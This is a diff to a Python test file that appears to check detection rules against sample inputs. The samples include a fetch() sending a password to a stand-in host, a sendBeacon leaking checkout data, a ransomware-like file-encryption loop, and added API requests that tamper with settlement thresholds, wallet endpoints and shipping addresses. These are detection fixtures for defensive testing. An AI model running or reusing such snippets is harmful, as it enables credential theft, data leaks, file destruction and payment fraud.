@@ -37,6 +37,9 @@ def test_each_rule_finds_its_example(rule: Section) -> None:
         {"script": "fetch('https://a.example', {headers: {A: 'Basic ' + btoa(u.value + ':' + password.value)}})"},
         {"script": "navigator.sendBeacon('https://s.example', JSON.stringify({page: '/checkout', plan: s.value}))"},
         {"code": "for p in glob('*.csv'):\n open(p + '.enc', 'wb').write(Fernet(key).encrypt(open(p, 'rb').read()))"},
+        {"method": "PATCH", "settlement_id": "3f9a1c2be77d4410a0c5e8d1f6b29a77", "threshold": "12"},
+        {"method": "PUT", "wallet_service": "https://w.example", "text": "Pay by card or by bank transfer."},
+        {"method": "PATCH", "shipping_address": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"[:20]},
         {"method": "POST", "path": "/api/v1/data-decoder/", "data": "0x0d582f13" + "0" * 128},
     ],
 )  # fmt: skip
